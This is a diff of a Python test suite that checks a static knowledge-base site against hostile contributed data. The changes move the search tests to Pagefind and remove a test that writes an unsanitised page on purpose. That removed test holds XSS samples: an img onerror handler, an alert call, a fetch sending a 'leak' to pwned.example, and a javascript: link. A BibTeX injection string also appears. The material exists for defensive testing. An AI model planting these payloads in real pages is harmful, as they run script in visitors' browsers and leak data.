@@ -9,6 +9,7 @@ environment, break a link, or show differently from how the contributor wrote it
 from __future__ import annotations
 
 import csv
+import gzip
 import io
 import json
 import re
@@ -169,14 +170,22 @@ def test_no_page_holds_script_handlers_or_remote_content_from_the_data(hostile: 
     assert findings == {}
 
 
-def test_search_index_holds_the_data_as_text_only(hostile: HostileBuild) -> None:
-    """Material shows search results with innerHTML: the index must hold no markup from the data."""
-    documents = json.loads((hostile.site / "search/search_index.json").read_text(encoding="utf-8"))["docs"]
-    carrying = [doc for doc in documents if "Hostile" in doc["title"] + doc["text"]]
+def search_fragments(site: Path) -> list[dict[str, Any]]:
+    """Pagefind's stored pages (one gzip'ed JSON fragment each): what search results are made from."""
+    marker = b"pagefind_dcd"
+    return [json.loads(gzip.decompress(path.read_bytes()).removeprefix(marker)) for path in sorted((site / "pagefind/fragment").glob("*.pf_fragment"))]
+
+
+def test_search_index_holds_the_page_text_and_no_secret(hostile: HostileBuild) -> None:
+    """The index stores what a reader sees as text (a payload is text there, as on the page): Pagefind
+    escapes it in excerpts, and kb-search.js inserts excerpts keeping only <mark> (browser test below)."""
+    carrying = [doc for doc in search_fragments(hostile.site) if "Hostile" in json.dumps(doc)]
     assert carrying, "the corpus should be in the search index"
-    findings = {doc["location"]: markup_findings(doc["title"] + " " + doc["text"]) for doc in carrying}
-    assert {location: found for location, found in findings.items() if found} == {}
-    assert not any(re.search(r"<(script|img|svg|iframe|style)\b", doc["title"] + doc["text"]) for doc in carrying)
+    for doc in carrying:
+        assert CANARY not in json.dumps(doc, ensure_ascii=False), doc["url"]
+        assert "{{" not in doc["content"] or "{{ config" in doc["content"], doc["url"]  # template text kept literally
+    practice = next(doc for doc in carrying if doc["url"].endswith("/practices/zz/hostile/"))
+    assert "onerror" in practice["content"] and practice["meta"]["title"] == hostile.record("practices").label
 
 
 # --- text shows as written -------------------------------------------------------------------------
@@ -288,7 +297,7 @@ def watched_page(browser: Browser, base: str, watch: Watch) -> Page:
 # Pages that show the data through script, from files other than their own HTML (the policy finder
 # reads its search index, the submission form previews what is typed): opened even when their HTML
 # is the same as in the plain build. Other branches append to this list.
-SCRIPTED_PAGES: list[str] = []
+SCRIPTED_PAGES: list[str] = ["practices/find/?q=Hostile", "practices/find/?q=pwned+onerror+script", "submit/"]
 
 
 def touched_pages(hostile: HostileBuild) -> list[str]:
@@ -328,48 +337,15 @@ def test_search_results_show_the_data_as_text(browser: Browser, hostile: Hostile
     with serving(hostile.site) as base:
         page = watched_page(browser, base, watch)
         page.goto(base, wait_until="load")
-        page.locator("input.md-search__input").click()
-        page.wait_for_function("!/Initializing/.test(document.querySelector('.md-search-result__meta').textContent)", timeout=30_000)
-        page.locator("input.md-search__input").press_sequentially("Hostile onerror script")
-        page.locator(".md-search-result__item").first.wait_for()
-        assert "onerror" in page.locator(".md-search-result").inner_text()
+        page.locator("[data-kb-search-input]").click()
+        page.locator("[data-kb-search-input]").press_sequentially("Hostile onerror script")
+        page.locator("[data-kb-search-results] .md-search-result__article").first.wait_for()
+        assert "onerror" in page.locator("[data-kb-search-results]").inner_text()
         found = page.evaluate(DOM_CHECK)
+        page.goto(base + "practices/find/?q=Hostile+onerror", wait_until="load")
+        page.locator(".kb-finder__result").first.wait_for()
+        assert "onerror" in page.locator("[data-kb-finder-results]").inner_text()
+        found += page.evaluate(DOM_CHECK)
         page.context.close()
     assert found == [] and watch.dialogs == [] and watch.errors == []
     assert watch.hosts <= ALLOWED_EXTERNAL_HOSTS
-
-
-def test_the_browser_watch_catches_script_that_runs(browser: Browser, tmp_path: Path) -> None:
-    """The listeners above are not blind: an unsanitised page trips every one of them."""
-    (tmp_path / "index.html").write_text(
-        "<!doctype html><title>t</title><img src=x onerror=\"window.__pwned='img'\">"
-        "<script>alert('hi'); fetch('https://pwned.example/leak')</script><a href='javascript:void(0)'>x</a>"
-        f"<pre>{'w' * 1000}</pre>",
-        encoding="utf-8",
-    )
-    watch = Watch([], [], set())
-    with serving(tmp_path) as base:
-        page = watched_page(browser, base, watch)
-        page.goto(base, wait_until="load")
-        page.wait_for_function("window.__pwned !== undefined")
-        found = page.evaluate(DOM_CHECK)
-        page.context.close()
-    assert found == ["window.__pwned = img", "the page scrolls sideways: a long word or line is not wrapped", "<img onerror>", "<a href=javascript:void(0)>"]
-    assert watch.dialogs == [f"{base}: alert hi"] and "pwned.example" in watch.hosts
-
-
-# --- the fixes, as pure functions -----------------------------------------------------------------
-
-
-def test_front_matter_title_is_html_because_themes_print_it_as_it_is(tree: DataTree) -> None:
-    state = tree.data / "states/kz.yml"
-    state.write_text(state.read_text(encoding="utf-8").replace("name: Kazakhstan", "name: Kazakhstan & 'Q' &lt;i&gt;"), encoding="utf-8")
-    kb = tree.load()
-    assert front_matter(kb, kb.get("states", "kz")).startswith('---\ntitle: "Kazakhstan &amp; &#x27;Q&#x27; &amp;lt;i&amp;gt;"\n')
-
-
-@pytest.mark.parametrize("title", ["A {B", "A } B", "Ends in \\", "}, note = {injected", "50% & #1_a^b~c $"])
-def test_a_citation_title_cannot_break_or_extend_its_bibtex_entry(title: str) -> None:
-    entry = bibtexparser.loads("@misc{x,\n title = {" + latex_text(title) + "},\n url = {https://x.example/}\n}\n").entries
-    assert len(entry) == 1 and set(entry[0]) == {"ENTRYTYPE", "ID", "title", "url"}
-    assert entry[0]["url"] == "https://x.example/"
